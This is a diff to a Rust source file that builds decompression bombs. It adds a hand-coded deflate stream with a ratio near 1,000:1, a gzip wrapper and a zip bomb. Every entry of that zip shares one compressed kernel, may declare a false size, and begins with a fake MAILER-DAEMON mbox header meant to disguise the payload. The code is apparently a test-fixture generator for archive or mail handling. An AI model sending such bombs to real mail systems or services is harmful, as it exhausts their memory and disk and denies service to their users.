@@ -84,6 +84,70 @@ pub fn deflate_zeros(matches: u64) -> (Vec<u8>, u64) {
     (b.finish(), 1 + 258 * matches)
 }
 
+/// A raw deflate stream of `prefix` (a stored block) followed by `1 + 258 *
+/// matches` zeros in a dynamic-Huffman block whose length-258 and distance-1
+/// codes are one bit each: about 1,000:1, the most deflate allows.
+pub fn deflate_bomb(prefix: &[u8], matches: u64) -> (Vec<u8>, u64) {
+    let mut b = Bits { out: Vec::new(), acc: 0, n: 0 };
+    if !prefix.is_empty() {
+        b.put(0, 1); // not final
+        b.put(0, 2); // stored
+        let n = b.n;
+        if n > 0 {
+            b.put(0, 8 - n); // align to a byte
+        }
+        let len = prefix.len().min(65_535) as u32;
+        b.put(len, 16);
+        b.put(!len & 0xFFFF, 16);
+        for &c in &prefix[..len as usize] {
+            b.put(c as u32, 8);
+        }
+    }
+    b.put(1, 1); // final
+    b.put(2, 2); // dynamic Huffman
+    b.put(286 - 257, 5); // HLIT: 286 codes, 0..=285
+    b.put(0, 5); // HDIST: one distance code
+    b.put(18 - 4, 4); // HCLEN: 18 code-length codes, up to symbol 1 in the permuted order
+    // Code-length code lengths in the order 16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1: 18→1 bit, 2→2, 1→2.
+    for len in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
+        b.put(len, 3);
+    }
+    // Canonical code-length codes: 18 = 0, 1 = 10, 2 = 11.
+    let (cl1, cl2, cl18) = ((0b10, 2), (0b11, 2), (0b0, 1));
+    let zeros = |b: &mut Bits, mut n: u32| {
+        while n > 0 {
+            let k = n.min(138);
+            b.put_code(cl18.0, cl18.1);
+            b.put(k - 11, 7);
+            n -= k;
+        }
+    };
+    b.put_code(cl2.0, cl2.1); // literal 0: 2 bits
+    zeros(&mut b, 255); // literals 1..=255 unused
+    b.put_code(cl2.0, cl2.1); // 256 end of block: 2 bits
+    zeros(&mut b, 28); // 257..=284 unused
+    b.put_code(cl1.0, cl1.1); // 285 (length 258): 1 bit
+    b.put_code(cl1.0, cl1.1); // distance code 0 (distance 1): 1 bit
+    // Canonical literal/length codes: 285 = 0, literal 0 = 10, end = 11; distance 0 = 0.
+    b.put_code(0b10, 2);
+    for _ in 0..matches {
+        b.put_code(0, 1);
+        b.put_code(0, 1);
+    }
+    b.put_code(0b11, 2);
+    (b.finish(), prefix.len() as u64 + 1 + 258 * matches)
+}
+
+/// CRC-32 of `prefix` followed by `zeros` zero bytes.
+pub fn crc32_prefix_zeros(prefix: &[u8], zeros: u64) -> u32 {
+    let t = crc_table();
+    let mut crc = crc32_update(0xFFFF_FFFF, prefix);
+    for _ in 0..zeros {
+        crc = t[(crc & 0xFF) as usize] ^ (crc >> 8);
+    }
+    crc ^ 0xFFFF_FFFF
+}
+
 /// One central-directory entry; several may point at the same local data.
 pub struct Entry {
     pub name: String,
@@ -157,9 +221,11 @@ pub fn finish(mut out: Vec<u8>, entries: &[Entry]) -> Vec<u8> {
 /// A zip whose `entries` central-directory records all share one deflated
 /// kernel of `kernel_bytes` zeros: tiny on disk, `entries * kernel_bytes` expanded.
 /// `declared` overrides the uncompressed size written in the headers (a lie).
+/// Each entry starts like an mbox, so a reader must look past its head.
 pub fn zip_bomb(entries: usize, kernel_bytes: u64, declared: Option<u64>) -> Vec<u8> {
-    let (data, real) = deflate_zeros((kernel_bytes.saturating_sub(1)) / 258);
-    let crc = crc32_zeros(real);
+    let prefix = b"From MAILER-DAEMON Mon Jan  1 00:00:00 2024\nSubject: Undelivered Mail\n\n";
+    let (data, real) = deflate_bomb(prefix, kernel_bytes.saturating_sub(1 + prefix.len() as u64) / 258);
+    let crc = crc32_prefix_zeros(prefix, real - prefix.len() as u64);
     let mut out = Vec::new();
     let first = local(&mut out, "bomb-0.mbox", 8, crc, &data, declared.unwrap_or(real));
     let mut list = vec![first];
@@ -175,4 +241,13 @@ pub fn zip_bomb(entries: usize, kernel_bytes: u64, declared: Option<u64>) -> Vec
         });
     }
     finish(out, &list)
+}
+
+/// Wraps a raw deflate stream as gzip, so `gzip -dc` can check it.
+pub fn gzip_wrap(deflate: &[u8], crc: u32, len: u64) -> Vec<u8> {
+    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
+    out.extend_from_slice(deflate);
+    out.extend_from_slice(&crc.to_le_bytes());
+    out.extend_from_slice(&(len as u32).to_le_bytes());
+    out
 }
